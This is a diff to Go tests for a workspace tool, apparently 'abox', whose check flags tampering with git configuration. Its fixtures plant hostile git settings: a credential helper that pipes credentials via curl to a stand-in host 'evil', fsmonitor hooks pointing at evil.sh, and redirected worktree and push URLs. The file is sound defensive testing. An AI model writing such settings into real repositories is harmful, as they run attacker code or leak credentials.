@@ -65,6 +65,22 @@ func TestGitTamper(t *testing.T) {
 			f.writeWS("notes.cfg", "[credential]\n\thelper = !curl -d @- evil\n")
 		}, "credential.helper"},
 		{"sample hook is not a hook", func(f *fixture) { f.writeWS(".git/hooks/pre-push.sample", "x") }, ""},
+		{"git directory laid out by hand", func(f *fixture) {
+			f.writeWS("tests/fixtures/sample.git/HEAD", "ref: refs/heads/main\n")
+			f.writeWS("tests/fixtures/sample.git/config", "[core]\n\tbare = false\n\tfsmonitor = /workspace/evil.sh\n")
+			f.writeWS("tests/fixtures/sample.git/objects/.keep", "")
+			f.writeWS("tests/fixtures/sample.git/refs/.keep", "")
+		}, "added: tests/fixtures/sample.git:core.fsmonitor = /workspace/evil.sh"},
+		{"core.worktree", func(f *fixture) {
+			f.writeWS(".git/config", "[core]\n\tbare = false\n\tworktree = /home/user\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
+		}, "added: core.worktree = /home/user"},
+		{"local push url", func(f *fixture) {
+			f.writeWS(".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.test/r.git\n\tpushurl = .cache/mirror.git\n")
+		}, "added: remote.origin.pushurl = .cache/mirror.git"},
+		{"linked worktree config", func(f *fixture) {
+			f.writeWS(".git/worktrees/other/commondir", "../..\n")
+			f.writeWS(".git/worktrees/other/config.worktree", "[core]\n\tfsmonitor = /workspace/evil.sh\n")
+		}, "added: worktrees/other:core.fsmonitor = /workspace/evil.sh"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -89,6 +105,35 @@ func TestGitTamper(t *testing.T) {
 			wantStatus(t, "git.tamper --accept-git", acc, Warn)
 			wantStatus(t, "git.tamper after accepting", f.run(gitTamper), OK)
 		})
+	}
+}
+
+// TestGitTamperOlderReading: a baseline recorded by an abox that read less of git lacks what the
+// newer one reads (here core.worktree, set before the baseline). That shows as added — as it
+// would had an agent set it since — and the finding says why, accepting nothing itself.
+func TestGitTamperOlderReading(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	f.writeWS(".git/config", "[core]\n\tbare = false\n\tworktree = /srv/checkout\n")
+	f.baseline()
+	wantStatus(t, "git.tamper (baseline)", f.run(gitTamper), OK)
+	err := watch.UpdateBaseline(f.project.Baselines(), func(b *watch.Baseline) {
+		delete(b.Git, "key:core.worktree")
+		b.GitReading = 0 // as recorded before the reading was numbered
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := f.run(gitTamper)
+	wantStatus(t, "git.tamper (older baseline)", got, Fail)
+	if !strings.Contains(got.Detail, "added: core.worktree = /srv/checkout") || !strings.Contains(got.Detail, "read less of git") ||
+		!strings.Contains(got.Hint, "abox doctor --accept-git") {
+		t.Errorf("git.tamper against an older baseline = %q / %q, want the key, why it shows and --accept-git", got.Detail, got.Hint)
+	}
+	e := f.env()
+	e.AcceptGit = true
+	wantStatus(t, "git.tamper --accept-git", gitTamper(context.Background(), e), Warn)
+	if got := f.run(gitTamper); got.Status != OK || strings.Contains(got.Detail, "read less") {
+		t.Errorf("git.tamper after accepting = %s %q, want OK", got.Status, got.Detail)
 	}
 }
 
